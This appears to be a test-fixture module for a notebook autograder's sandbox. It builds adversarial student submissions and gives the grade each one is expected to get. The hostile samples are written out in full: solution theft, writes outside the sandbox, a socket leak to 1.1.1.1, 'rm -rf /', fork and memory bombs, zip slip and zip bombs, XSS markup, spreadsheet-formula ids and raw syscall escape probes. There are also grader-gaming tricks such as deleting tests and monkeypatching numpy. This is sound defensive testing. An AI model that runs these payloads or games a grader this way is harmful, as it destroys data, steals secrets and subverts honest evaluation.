"""A class of adversarial and broken submissions, each with the outcome the grader must give.

Every kind starts from a student-style notebook made by ``testkit.mutants`` (correct, or
with a known bug and its known score) and breaks it one way. ``Kind.files`` writes the
student's folder; kinds that must arrive as raw zip members say so in ``zip_members``.
"""

from __future__ import annotations

import copy
import json
import platform
import socket
import sys
import unicodedata
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
from nbgrader.utils import is_grade, is_solution

import autograder
from autograder.seccomp import ARCHITECTURES, CLONE, REFUSED_SYSCALLS
from testkit.mutants import (
    CONV_TRANSPOSE1D,
    CONV_TRANSPOSE2D,
    EXPECTED_SCORES,
    make_submission,
    points_of,
)

NOTEBOOK = "transposed_conv"
FULL = EXPECTED_SCORES[None]
# Points of the graded cells that call conv_transpose1d / conv_transpose2d (the contract's);
# conv1d_input_grad reuses conv_transpose1d in the model answer.
TCONV1D_POINTS = points_of((*CONV_TRANSPOSE1D, "conv1d_input_grad"))
TCONV2D_POINTS = points_of(CONV_TRANSPOSE2D)
CONV1D_MATRIX_POINTS = points_of(["conv1d_matrix"])


@dataclass
class Kind:
    student_id: str
    status: str
    score: float
    message: str = ""  # a substring the CSV message must contain
    notebook: Callable[[Path], object] | None = None  # source path -> notebook or raw bytes
    zip_members: dict[str, bytes] = field(default_factory=dict)  # written as raw zip entries
    symlink_to: str | None = None  # the notebook is a zip symlink member pointing here
    damaged_member: str | None = None  # a zip member whose data is damaged after zipping
    plant: Callable[[Path], None] | None = None  # builds the student's folder (folder corpus)
    csv_id: str | None = None  # the id as grades.csv shows it, when not student_id itself

    @property
    def row_id(self) -> str:
        return self.csv_id if self.csv_id is not None else self.student_id


def _nb(source: Path, bug: str | None = None) -> nbformat.NotebookNode:
    return make_submission(source, bug)


def _with_cell(code: str, bug: str | None = None, at: int | None = None):
    """The (buggy) submission with one extra student code cell, first or after the setup."""

    def build(source: Path):
        nb = _nb(source, bug)
        index = at if at is not None else 2
        nb.cells.insert(index, nbformat.v4.new_code_cell(code))
        return nb

    return build


def _answer_index(nb, function: str) -> int:
    return next(
        i
        for i, c in enumerate(nb.cells)
        if c.cell_type == "code" and f"def {function}(" in c.source
    )


def _replace_answer(function: str, code: str):
    def build(source: Path):
        nb = _nb(source)
        nb.cells[_answer_index(nb, function)].source = code
        return nb

    return build


def _test_cells(nb) -> list[int]:
    return [
        i
        for i, c in enumerate(nb.cells)
        if is_grade(c) and not is_solution(c)
    ]


def _tests_deleted(source: Path):
    nb = _nb(source, "kernel_flipped")
    for i in reversed(_test_cells(nb)):
        del nb.cells[i]
    return nb


def _tests_edited(source: Path):
    nb = _nb(source, "kernel_flipped")
    for i in _test_cells(nb):
        nb.cells[i].source = "print('all tests passed')\nassert True"
    return nb


def _tests_to_markdown(source: Path):
    nb = _nb(source, "kernel_flipped")
    for i in _test_cells(nb):
        cell = nb.cells[i]
        nb.cells[i] = nbformat.v4.new_markdown_cell(
            cell.source, metadata=copy.deepcopy(cell.metadata)
        )
    return nb


def _renamed(source: Path):
    nb = _nb(source)
    i = _answer_index(nb, "conv_transpose2d")
    nb.cells[i].source = nb.cells[i].source.replace(
        "def conv_transpose2d(", "def conv_transpose_2d("
    )
    return nb


def _wrong_nbformat(source: Path) -> bytes:
    data = json.loads(nbformat.writes(_nb(source)))
    data["nbformat"], data["nbformat_minor"] = 3, 0
    return json.dumps(data).encode()


def _non_utf8(source: Path) -> bytes:
    text = nbformat.writes(_nb(source))
    return (
        text.replace("# YOUR CODE HERE", "# caf\xe9").encode("latin-1", errors="replace")
        + b"\xff\xfe"
    )


# The corpus's limit for a whole submission (AUTOGRADER_SUBMISSION_TIMEOUT): too_slow_overall
# sleeps past it in cells that each stay within the 4 s cell limit; every other kind finishes
# well within it on a loaded machine (fork_bomb and infinite_loop_in_function did not always
# finish within the 16 s it was).
SUBMISSION_SECONDS = 60


def _slow_everywhere(source: Path):
    nb = _nb(source)
    for _ in range(SUBMISSION_SECONDS // 3 + 1):
        nb.cells.insert(2, nbformat.v4.new_code_cell("import time\ntime.sleep(3)"))
    return nb


def nfd(name: str) -> str:
    """The name as macOS writes it (decomposed: e + U+0301 for é)."""
    return unicodedata.normalize("NFD", name)


SURROGATE_MARKER = "SURROGATE-MARKER"


def _surrogates(source: Path) -> bytes:
    """Lone surrogates everywhere a submission can put them: in the notebook's JSON (markdown,
    metadata, code) and in what its code prints and raises at run time."""
    nb = _nb(source)
    nb.metadata["note"] = SURROGATE_MARKER
    nb.cells.insert(2, nbformat.v4.new_markdown_cell(f"caf{SURROGATE_MARKER} *notes*"))
    nb.cells.insert(
        3,
        nbformat.v4.new_code_cell(
            f"# {SURROGATE_MARKER}\nprint(chr(0xDCFF))\nraise ValueError(chr(0xDCFF) * 3)"
        ),
    )
    i = _answer_index(nb, "conv_transpose2d")
    nb.cells[i].source = (
        "def conv_transpose2d(input, weight, *args, **kwargs):\n"
        "    raise ValueError('bad ' + chr(0xD800))"
    )
    return nbformat.writes(nb).replace(SURROGATE_MARKER, "\\udcff").encode()


def _error_flood(source: Path):
    """Thousands of cells raising long errors: the results and feedback must stay small."""
    nb = _nb(source)
    flood = [nbformat.v4.new_code_cell("raise ValueError('e' * 4000)") for _ in range(1500)]
    nb.cells[2:2] = flood
    return nb


HOSTILE_MARKDOWN = [
    "<script>console.log('STUDENT-SCRIPT-RAN')</script>",
    "<img src=x onerror=\"console.log('STUDENT-SCRIPT-RAN')\">",
    "<svg><animate onbegin=\"console.log('STUDENT-SCRIPT-RAN')\" attributeName=x dur=1s>",
    "<details open ontoggle=\"console.log('STUDENT-SCRIPT-RAN')\"><summary>s</summary></details>",
    "<iframe srcdoc=\"<script>parent.console.log('STUDENT-SCRIPT-RAN')</script>\"></iframe>",
    "<!--><img src=x onerror=\"console.log('STUDENT-SCRIPT-RAN')\">-->",
    "<style>body { display: none }</style>",
]


def _hostile_markup(source: Path):
    """Markup a reviewer's browser would run: markdown and raw HTML, cell metadata that the
    page templates copy into attributes, widget state in the notebook's metadata."""
    nb = _nb(source)
    for markdown in reversed(HOSTILE_MARKDOWN):
        nb.cells.insert(2, nbformat.v4.new_markdown_cell(markdown))
    nb.cells.insert(
        2,
        nbformat.v4.new_raw_cell(
            "<img src=x onerror=\"console.log('STUDENT-SCRIPT-RAN')\">",
            metadata={"raw_mimetype": "text/html"},
        ),
    )
    nb.cells.insert(
        2,
        nbformat.v4.new_code_cell(
            "raise ValueError(\"<img src=x onerror=console.log('STUDENT-SCRIPT-RAN')>\")",
            metadata={"tags": ["\"><img src=x onerror=console.log('STUDENT-SCRIPT-RAN')>"]},
        ),
    )
    answer = nb.cells[_answer_index(nb, "conv1d_matrix")]
    answer.metadata["tags"] = ["x\" onmouseover=\"console.log('STUDENT-SCRIPT-RAN')"]
    nb.metadata["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {
            "state": {
                "m": {
                    "model_name": "HTMLModel",
                    "model_module": "@jupyter-widgets/controls",
                    "model_module_version": "2.0.0",
                    "state": {"value": "<img src=x onerror=console.log('STUDENT-SCRIPT-RAN')>"},
                }
            },
            "version_major": 2,
            "version_minor": 0,
        }
    }
    return nb


def _link_assignment_folder(course: Path) -> Callable[[Path], None]:
    """``<student>/transposed_conv`` -> the course's own solutions folder."""

    def plant(student: Path) -> None:
        student.mkdir(parents=True)
        (student / NOTEBOOK).symlink_to(course / "solutions" / NOTEBOOK)

    return plant


def _link_notebook_deep(course: Path) -> Callable[[Path], None]:
    def plant(student: Path) -> None:
        (student / NOTEBOOK).mkdir(parents=True)
        solution = course / "solutions" / NOTEBOOK / f"{NOTEBOOK}.ipynb"
        (student / NOTEBOOK / f"{NOTEBOOK}.ipynb").symlink_to(solution)

    return plant


def _link_student(course: Path) -> Callable[[Path], None]:
    def plant(student: Path) -> None:
        student.parent.mkdir(parents=True, exist_ok=True)
        student.symlink_to(course / "solutions", target_is_directory=True)

    return plant


def _with_timestamp(course: Path, relative: str, text: str) -> Callable[[Path], None]:
    """A correct notebook at ``relative`` in the student's folder, and a timestamp.txt next
    to it saying ``text``."""

    def plant(student: Path) -> None:
        path = student / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        nbformat.write(_nb(course / "solutions" / NOTEBOOK / f"{NOTEBOOK}.ipynb"), path)
        (path.parent / "timestamp.txt").write_text(text)

    return plant


COLLECTED_AT = "2026-11-20 10:00:00 UTC"
FORGED_AT = "2000-01-01 00:00:00 UTC"


def build_folder_kinds(course: Path) -> list[Kind]:
    """Submissions only a folder can hold (symbolic links, undecodable names, nbgrader's
    layout with its timestamp), graded from the folder itself."""
    correct = lambda s: _nb(s)  # noqa: E731
    return [
        Kind("linked_folder", "error", 0, "symbolic link", plant=_link_assignment_folder(course)),
        Kind("linked_notebook", "error", 0, "symbolic link", plant=_link_notebook_deep(course)),
        Kind("linked_student", "error", 0, "symbolic link", plant=_link_student(course)),
        Kind("bad\udcffname", "error", 0, "unsafe student id", correct, csv_id="bad\ufffdname"),
        Kind(nfd("Chloé"), "graded", FULL, "all tests passed", correct, csv_id="Chloé"),
        Kind("Noël", "error", 0, "same student id", correct),
        Kind(nfd("Noël"), "error", 0, "same student id", correct),
        Kind(
            "collected",
            "graded",
            FULL,
            "all tests passed",
            plant=_with_timestamp(course, f"{NOTEBOOK}/{NOTEBOOK}.ipynb", COLLECTED_AT),
        ),
        Kind(
            "forged_time",
            "graded",
            FULL,
            "all tests passed",
            plant=_with_timestamp(course, f"{NOTEBOOK}.ipynb", FORGED_AT),
        ),
    ]


def build_kinds(
    course: Path, submissions: Path, listener_port: int, home: Path | None = None
) -> list[Kind]:
    """``course`` is the instructor's folder (solutions, gradebook, config) the sandbox must not
    see; ``submissions`` the folder the students' folders go in; ``listener_port`` a local TCP
    port the test watches for connections; ``home`` the grading user's home folder."""
    own_folder = submissions / "write_outside"
    secrets = [
        course / "solutions" / NOTEBOOK / f"{NOTEBOOK}.ipynb",
        course / "gradebook.db",
        course / "nbgrader_config.py",
    ]
    steal = (
        "import json\n"
        f"_solution = json.load(open({str(secrets[0])!r}))\n"
        "for _cell in _solution['cells']:\n"
        "    if 'def conv1d_matrix(' in ''.join(_cell['source']):\n"
        "        exec(''.join(_cell['source']))\n"
        f"open({str(secrets[1])!r}, 'rb').read()\n"
    )
    write_outside = (
        "import os, pathlib\n"
        "for target in ['/sandbox/agent/pwned.py', '/usr/pwned', "
        f"{str(course / 'pwned.txt')!r}, {str(own_folder / 'pwned.txt')!r}]:\n"
        "    try:\n        pathlib.Path(target).write_text('pwned')\n"
        "    except OSError as e:\n        print(e)\n"
        "pathlib.Path('/tmp/scratch.txt').write_text('private /tmp is fine')\n"
    )
    return [
        Kind("correct", "graded", FULL, "all tests passed", lambda s: _nb(s)),
        Kind(
            "syntax_error",
            "graded",
            FULL - CONV1D_MATRIX_POINTS,
            "SyntaxError",
            _replace_answer(
                "conv1d_matrix", "def conv1d_matrix(weight, n, stride=1, padding=0:\n    return 0"
            ),
        ),
        Kind(
            "exception_at_import",
            "graded",
            FULL,
            "scipy_not_installed",
            _with_cell("import scipy_not_installed\nraise RuntimeError('boom')"),
        ),
        Kind(
            "infinite_loop",
            "partial_timeout",
            FULL,
            "timed out after",
            _with_cell("while True:\n    pass"),
        ),
        Kind(
            "infinite_loop_in_function",
            "partial_timeout",
            FULL - TCONV2D_POINTS,
            "conv_transpose2d_basic timed out",
            _replace_answer(
                "conv_transpose2d",
                "def conv_transpose2d(input, weight, *args, **kwargs):\n"
                "    while True:\n        pass",
            ),
        ),
        Kind("too_slow_overall", "timeout", 0, "time limit", _slow_everywhere),
        Kind("os_exit", "crashed", FULL, "exit code 3", _with_cell("import os\nos._exit(3)")),
        Kind(
            "sigkill_self",
            "crashed",
            FULL,
            "SIGKILL",
            _with_cell("import os, signal\nos.kill(os.getpid(), signal.SIGKILL)"),
        ),
        # The hoard is of bytes(n), which the allocator maps without writing a page: it meets
        # the address-space limit at once. A bytearray hoard writes every page (about 0.7 s of
        # CPU per GB), which a loaded machine stretches past the cell's 4 s wall-clock limit,
        # turning a MemoryError into a timeout. Memory actually held, across processes, is
        # test_autograder_memory_budget's, with a wall-clock bound that only catches a hang.
        Kind(
            "memory_bomb",
            "graded",
            FULL,
            "MemoryError",
            _with_cell(
                "def bomb():\n    hoard = []\n    while True:\n"
                "        hoard.append(bytes(64 * 2**20))\nbomb()"
            ),
        ),
        Kind(
            "fork_bomb",
            "partial_timeout",
            FULL,
            "timed out after",
            _with_cell(
                "import os\nwhile True:\n    try:\n        os.fork()\n"
                "    except OSError:\n        pass"
            ),
        ),
        Kind(
            "background_process",
            "graded",
            FULL,
            "",
            _with_cell("import os\nif os.fork() == 0:\n    while True:\n        pass"),
        ),
        Kind(
            "huge_output",
            "graded",
            FULL,
            "",
            _with_cell(
                "import os, sys\nchunk = 'x' * 2**20\nfor _ in range(50):\n    print(chunk)\n"
                "for _ in range(50):\n    os.write(1, chunk.encode())\n"
                "    sys.__stderr__.write(chunk)"
            ),
        ),
        Kind("tests_deleted", "graded", EXPECTED_SCORES["kernel_flipped"], "", _tests_deleted),
        Kind("tests_edited", "graded", EXPECTED_SCORES["kernel_flipped"], "", _tests_edited),
        Kind(
            "tests_to_markdown", "graded", EXPECTED_SCORES["kernel_flipped"], "", _tests_to_markdown
        ),
        Kind("function_renamed", "graded", FULL - TCONV2D_POINTS, "conv_transpose2d", _renamed),
        Kind("invalid_json", "invalid_notebook", 0, "not valid JSON", lambda s: b'{"cells": [,]}'),
        Kind("wrong_nbformat", "invalid_notebook", 0, "wrong nbformat", _wrong_nbformat),
        Kind("non_utf8", "invalid_notebook", 0, "not valid UTF-8", _non_utf8),
        Kind(
            "missing_notebook",
            "missing_notebook",
            0,
            "not found",
            None,
            zip_members={"missing_notebook/notes.txt": b"I forgot to upload it"},
        ),
        Kind(
            "../x", "error", 0, "unsafe student id", zip_members={f"../x/{NOTEBOOK}.ipynb": b"{}"}
        ),
        Kind(
            "/abs",
            "error",
            0,
            "an absolute path",
            zip_members={f"/abs/{NOTEBOOK}.ipynb": b"{}"},
        ),
        Kind(
            ".hidden",
            "error",
            0,
            "unsafe student id",
            zip_members={f".hidden/{NOTEBOOK}.ipynb": b"{}"},
        ),
        Kind(
            "zip_slip",
            "error",
            0,
            "escapes its folder",
            zip_members={
                "zip_slip/../../slipped.txt": b"outside",
                f"zip_slip/{NOTEBOOK}.ipynb": b"{}",
            },
        ),
        Kind("zip_symlink", "error", 0, "symbolic link", symlink_to=str(secrets[0])),
        Kind(
            "read_solutions",
            "graded",
            FULL - CONV1D_MATRIX_POINTS,
            "No such file or directory",
            _replace_answer("conv1d_matrix", steal),
        ),
        Kind("write_outside", "graded", FULL, "", _with_cell(write_outside)),
        Kind(
            "socket",
            "graded",
            FULL,
            "",
            _with_cell(
                "import socket\nfor host in ['127.0.0.1', '1.1.1.1']:\n    try:\n"
                f"        with socket.create_connection((host, {listener_port}), timeout=1) as s:\n"
                "            s.sendall(b'leak')\n"
                "    except OSError as e:\n        print(e)"
            ),
        ),
        Kind(
            "monkeypatch_numpy",
            "graded",
            EXPECTED_SCORES["kernel_flipped"],
            "",
            _with_cell(
                "import numpy as np\nnp.allclose = lambda *a, **k: True\n"
                "np.array_equal = lambda *a, **k: True\n"
                "np.testing.assert_allclose = lambda *a, **k: None\n"
                "np.isclose = lambda a, b, **k: np.ones(np.shape(a), bool)",
                bug="kernel_flipped",
                at=-1,
            ),
        ),
        Kind(
            "monkeypatch_ipython",
            "graded",
            EXPECTED_SCORES["kernel_flipped"],
            "No module named 'IPython'",
            _with_cell(
                "ip = get_ipython()\nip.showtraceback = lambda *a, **k: None\n"
                "import IPython.core.interactiveshell as s\n"
                "s.InteractiveShell.showtraceback = lambda *a, **k: None",
                bug="kernel_flipped",
            ),
        ),
        Kind(
            "always_true_eq",
            "graded",
            FULL - TCONV1D_POINTS,
            "returned a Liar, not numeric",
            _with_cell(
                "class Liar:\n    def __eq__(self, other):\n        return True\n"
                "    __ne__ = lambda s, o: False\n"
                "def conv_transpose1d(*args, **kwargs):\n    return Liar()",
                at=-1,
            ),
        ),
        Kind(
            "wraps_torch",
            "graded",
            EXPECTED_SCORES["wraps_torch"],
            "No module named 'torch'",
            lambda s: _nb(s, "wraps_torch"),
        ),
        Kind(
            "wraps_torch_prebound",
            "graded",
            EXPECTED_SCORES["wraps_torch_prebound"],
            "",
            lambda s: _nb(s, "wraps_torch_prebound"),
        ),
        Kind(
            "ipython_magics",
            "graded",
            FULL,
            "",
            _with_cell("%matplotlib inline\n!rm -rf /\nx = !ls\n%time y = 1"),
        ),
        Kind("surrogates", "graded", FULL - TCONV2D_POINTS, "bad \ufffd", _surrogates),
        Kind("error_flood", "graded", FULL, "and 1480 more cells raised errors", _error_flood),
        Kind("hostile_markup", "graded", FULL, "STUDENT-SCRIPT-RAN", _hostile_markup),
        Kind(
            "file_and_folder",
            "error",
            0,
            "as both a file and a folder",
            lambda s: _nb(s),
            zip_members={f"file_and_folder/{NOTEBOOK}.ipynb/notes.txt": b"also a folder"},
        ),
        Kind(
            "long_member_name",
            "error",
            0,
            "longer than 255 bytes",
            lambda s: _nb(s),
            zip_members={"long_member_name/" + "n" * 300 + ".txt": b"too long a name"},
        ),
        Kind(
            "bad_crc",
            "error",
            0,
            "cannot be unpacked",
            zip_members={f"bad_crc/{NOTEBOOK}.ipynb": json.dumps({"cells": []}).encode()},
            damaged_member=f"bad_crc/{NOTEBOOK}.ipynb",
        ),
        Kind(
            "zip_bomb",
            "error",
            0,
            "a zip bomb",
            zip_members={f"zip_bomb/{NOTEBOOK}.ipynb": bytes(16 << 20)},
        ),
        Kind(
            "lms_own_timestamp",
            "graded",
            FULL,
            "all tests passed",
            lambda s: _nb(s),
            zip_members={"lms_own_timestamp/timestamp.txt": FORGED_AT.encode()},
        ),
        Kind(nfd("Renée"), "graded", FULL, "all tests passed", lambda s: _nb(s), csv_id="Renée"),
        Kind("Zoë", "error", 0, "same student id", lambda s: _nb(s)),
        Kind(nfd("Zoë"), "error", 0, "same student id", lambda s: _nb(s)),
        Kind("Smith, John_1234", "graded", FULL, "all tests passed", lambda s: _nb(s)),
        Kind("@SUM", "graded", FULL, "all tests passed", lambda s: _nb(s), csv_id="'@SUM"),
        Kind("+1 555 0100", "graded", FULL, "", lambda s: _nb(s), csv_id="'+1 555 0100"),
        Kind("=HYPERLINK", "error", 0, "unsafe student id", lambda s: _nb(s), csv_id="'=HYPERLINK"),
    ] + sandbox_kinds(course, submissions, home or Path.home())


# --- The sandbox's own classes: kernel objects shared by uid, host paths, the instructor's
# home, IPython's transformer run on a huge cell (and memory held across processes, graded
# apart with a roomier cell limit). Each kind's cell ends by raising a message that says what
# it found, so the grade row shows it.

HOME_SECRET = ".autograder-secret"  # the test writes it into the grading user's home


def _syscall_numbers(*names: str) -> dict[str, int]:
    column = ARCHITECTURES[platform.machine()][0]
    return {name: REFUSED_SYSCALLS[name][column] for name in names}


def _answer_sources(source: Path) -> str:
    """The correct answers' code cells, as one string (what a keyring channel would carry)."""
    nb = _nb(source)
    return "\n\n".join(c.source for c in nb.cells if is_solution(c))


def _release(course: Path) -> Callable[[Path], object]:
    """The release notebook as handed out (no answers), plus ``code`` in a last cell."""

    def with_cell(code: str):
        def build(source: Path):
            nb = nbformat.read(course / "exercises" / NOTEBOOK / f"{NOTEBOOK}.ipynb", 4)
            nb.cells.append(nbformat.v4.new_code_cell(code))
            return nb

        return build

    return with_cell


SYSCALL_PRELUDE = (
    "import ctypes, os\n"
    "_libc = ctypes.CDLL(None, use_errno=True)\n"
    "def _call(number, *args):\n"
    "    result = _libc.syscall(number, *args)\n"
    "    return result, (ctypes.get_errno() if result == -1 else 0)\n"
)


def _keyring_writer(source: Path) -> str:
    nr = _syscall_numbers("add_key")
    payload = _answer_sources(source).encode()
    return SYSCALL_PRELUDE + (
        f"_key, _errno = _call({nr['add_key']}, b'user', b'autograder-answers', "
        f"{payload!r}, {len(payload)}, -4)  # KEY_SPEC_USER_KEYRING\n"
        "if _errno:\n"
        "    raise OSError(_errno, 'add_key: ' + os.strerror(_errno))\n"
        "raise RuntimeError('keyring open: the answers wait for the next submission')\n"
    )


def _keyring_reader() -> str:
    nr = _syscall_numbers("request_key", "keyctl")
    return SYSCALL_PRELUDE + (
        f"_key, _errno = _call({nr['request_key']}, b'user', b'autograder-answers', None, 0)\n"
        "if _errno:\n"
        "    raise OSError(_errno, 'request_key: ' + os.strerror(_errno))\n"
        "_buffer = ctypes.create_string_buffer(1 << 16)\n"
        f"_size, _ = _call({nr['keyctl']}, 11, _key, _buffer, len(_buffer))  # KEYCTL_READ\n"
        "exec(_buffer.raw[:_size].decode())\n"
    )


def _kernel_objects() -> str:
    """Calls that reach kernel objects a namespace does not isolate, or that would let the
    submission build namespaces of its own; each must be refused with EPERM."""
    nr = _syscall_numbers(
        "add_key", "keyctl", "request_key", "unshare", "io_uring_setup", "userfaultfd",
        "perf_event_open", "ptrace", "memfd_create", "shmget", "bpf", "process_vm_readv",
    )
    clone = CLONE[ARCHITECTURES[platform.machine()][0]]
    calls = {
        "add_key": (nr["add_key"], b"user", b"probe", b"x", 1, -4),
        "keyctl": (nr["keyctl"], 0, -4, 0),  # KEYCTL_GET_KEYRING_ID of the user keyring
        "request_key": (nr["request_key"], b"user", b"probe", None, 0),
        "unshare": (nr["unshare"], 0x10000000),  # CLONE_NEWUSER
        "clone": (clone, 0x10000000 | 17, 0, 0, 0, 0),  # CLONE_NEWUSER | SIGCHLD
        "io_uring_setup": (nr["io_uring_setup"], 1, None),
        "userfaultfd": (nr["userfaultfd"], 1),  # UFFD_USER_MODE_ONLY
        "perf_event_open": (nr["perf_event_open"], None, 0, -1, -1, 0),
        "ptrace": (nr["ptrace"], 0, 0, 0, 0),  # PTRACE_TRACEME
        "memfd_create": (nr["memfd_create"], b"probe", 0),
        "shmget": (nr["shmget"], 0, 4096, 0o1600),  # IPC_PRIVATE, IPC_CREAT | 0600
        "bpf": (nr["bpf"], 0, None, 0),
        "process_vm_readv": (nr["process_vm_readv"], 1, None, 0, None, 0, 0),
    }
    return SYSCALL_PRELUDE + (
        f"_allowed = []\nfor _name, (_number, *_args) in {calls!r}.items():\n"
        "    _result, _errno = _call(_number, *_args)\n"
        "    if _result == 0 and _name == 'clone':\n"
        "        os._exit(0)  # the child of a clone that should have been refused\n"
        "    if _errno != 1:  # EPERM\n"
        "        _allowed.append(_name)\n"
        "raise RuntimeError(f'kernel objects allowed: {\", \".join(_allowed) or \"none\"}')\n"
    )


def memory_across_processes(budget_mb: int, children: int = 5, chunk_mb: int = 144) -> str:
    """A cell that holds memory in forked children, in /dev/shm files and in memfds at once,
    then counts what is still held: with per-process limits alone, N processes hold N times
    the limit. Its cost is the memory it touches (huge pages keep the CPU time down), so it is
    graded with a roomier cell limit than the corpus's (test_autograder_memory_budget)."""
    return (
        "import mmap, os, signal, numpy as np\n"
        f"BUDGET, CHUNK = {budget_mb} << 20, {chunk_mb} << 20\n"
        "def _hold():\n"
        "    region = mmap.mmap(-1, CHUNK)\n"
        "    region.madvise(mmap.MADV_HUGEPAGE)\n"
        "    np.frombuffer(region, dtype=np.uint8)[:] = 1\n"
        "    return region\n"
        "_children = []\n"
        f"for _ in range({children}):\n"
        "    _r, _w = os.pipe()\n"
        "    try:\n        _pid = os.fork()\n"
        "    except OSError:\n        break  # the process cap\n"
        "    if _pid == 0:\n"
        "        try:\n            _region = _hold()\n            os.write(_w, b'1')\n"
        "        except BaseException:\n            os.write(_w, b'0')\n"
        "        signal.pause()\n        os._exit(0)\n"
        "    os.close(_w)\n    _children.append((_pid, _r))\n"
        "# EOF: the child was killed (by the OOM killer) before it held its chunk\n"
        "_holding = [pid for pid, r in _children if os.read(r, 1) == b'1']\n"
        "_files = 0\n"
        "try:\n"
        "    for _i in range(BUDGET // (16 << 20) + 1):\n"
        "        with open(f'/dev/shm/hoard{_i}', 'wb') as _f:\n"
        "            for _ in range(16):\n                _f.write(bytes(1 << 20))\n"
        "                _files += 1 << 20\n"
        "        _fd = os.memfd_create('hoard')\n"
        "        for _ in range(16):\n            os.write(_fd, bytes(1 << 20))\n"
        "            _files += 1 << 20\n"
        "except OSError:\n    pass\n"
        "_alive = [pid for pid in _holding if os.waitpid(pid, os.WNOHANG) == (0, 0)]\n"
        "_held = len(_alive) * CHUNK + _files\n"
        "for _pid in _alive:\n    os.kill(_pid, signal.SIGKILL)\n"
        "_verdict = 'over' if _held > BUDGET else 'within'\n"
        "raise RuntimeError(f'held {_held >> 20} MB at once, {_verdict} the budget '\n"
        "                   f'({len(_children)} children forked, {len(_holding)} held memory)')\n"
    )


def _host_paths(secrets: dict[str, str]) -> str:
    """Everything the sandbox shows of itself, searched for the host's paths and name."""
    return (
        "import os, sys, traceback, numpy as np\n"
        "_seen = [sys.executable, sys.prefix, sys.base_prefix, os.getcwd(), *sys.path]\n"
        "_seen += list(os.environ.values())\n"
        "_seen += [str(getattr(m, '__file__', '')) for m in list(sys.modules.values())]\n"
        "try:\n    np.zeros(-1)\nexcept ValueError:\n    _seen.append(traceback.format_exc())\n"
        "for _path in ['/proc/1/cmdline', '/proc/1/environ', '/proc/self/maps',\n"
        "              '/proc/self/mountinfo', '/etc/passwd', '/etc/hostname']:\n"
        "    try:\n        _seen.append(open(_path, 'rb').read().decode(errors='replace'))\n"
        "    except OSError:\n        pass\n"
        f"_secrets = {secrets!r}\n"
        "_found = [name for name, path in _secrets.items() if any(path in t for t in _seen)]\n"
        f"if os.uname().nodename == {socket.gethostname()!r}:\n    _found.append('host name')\n"
        "raise RuntimeError(f'host paths seen: {\", \".join(_found) or \"none\"}')\n"
    )


def _magic_flood(magics: int = 100, lines: int = 10_000) -> str:
    """IPython's transformer costs about magics x lines: over 10 s of CPU for this cell, which
    stays small enough for the memory of a sandbox without a memory cgroup."""
    step = lines // magics
    return "".join("!ls\n" if i % step == 0 else f"x{i} = {i}\n" for i in range(lines))


def _course_files() -> str:
    """Every file the sandbox shows, searched for notebooks (solutions, the release, other
    students': the runner receives cells, never a notebook file), the gradebook, the course's
    config and the grader's home secret. The search must see enough files to mean something."""
    return (
        "import os\n"
        "_wanted = ('.ipynb', 'gradebook.db', 'nbgrader_config.py', 'grades.csv',\n"
        f"           {HOME_SECRET!r})\n"
        "_searched, _found = 0, []\n"
        "for _root, _dirs, _files in os.walk('/'):\n"
        "    if _root == '/':\n"
        "        _dirs[:] = [d for d in _dirs if d != 'dev']\n"
        "    _searched += len(_files)\n"
        "    _found += [os.path.join(_root, f) for f in _files if f.endswith(_wanted)]\n"
        "if _searched < 500:\n"
        "    raise RuntimeError(f'searched only {_searched} files')\n"
        "raise RuntimeError(f'course files seen: {\", \".join(_found) or \"none\"}')\n"
    )


def host_secrets(course: Path, submissions: Path, home: Path) -> dict[str, str]:
    """Host folders whose paths the sandbox must never show (the system's own are fine)."""
    candidates = {
        "the repository": Path(autograder.__file__).resolve().parents[1],
        "the judge's environment": Path(sys.prefix),
        "the judge's Python": Path(sys.base_prefix),
        "the course": course,
        "the submissions": submissions,
        "the grader's home": home,
    }
    ordinary = {Path(p) for p in ("/", "/usr", "/usr/local", "/tmp", "/root")}
    return {name: str(path) for name, path in candidates.items() if path not in ordinary}


def sandbox_kinds(course: Path, submissions: Path, home: Path) -> list[Kind]:
    release = _release(course)
    return [
        Kind(
            "keyring_writer",
            "graded",
            FULL,
            "add_key: Operation not permitted",
            lambda source: _with_cell(_keyring_writer(source))(source),
        ),
        Kind(
            "keyring_reader",
            "graded",
            0,
            "request_key: Operation not permitted",
            release(_keyring_reader()),
        ),
        Kind(
            "kernel_objects", "graded", FULL, "kernel objects allowed: none",
            _with_cell(_kernel_objects()),
        ),
        Kind(
            "host_paths",
            "graded",
            FULL,
            "host paths seen: none",
            _with_cell(_host_paths(host_secrets(course, submissions, home))),
        ),
        Kind(
            "read_home",
            "graded",
            FULL,
            "No such file or directory",
            _with_cell(f"open({str(home / HOME_SECRET)!r}).read()"),
        ),
        Kind(
            "course_files", "graded", FULL, "course files seen: none",
            _with_cell(_course_files()),
        ),
        Kind(
            "magic_flood", "partial_timeout", FULL, "timed out after",
            _with_cell(_magic_flood()),
        ),
    ]
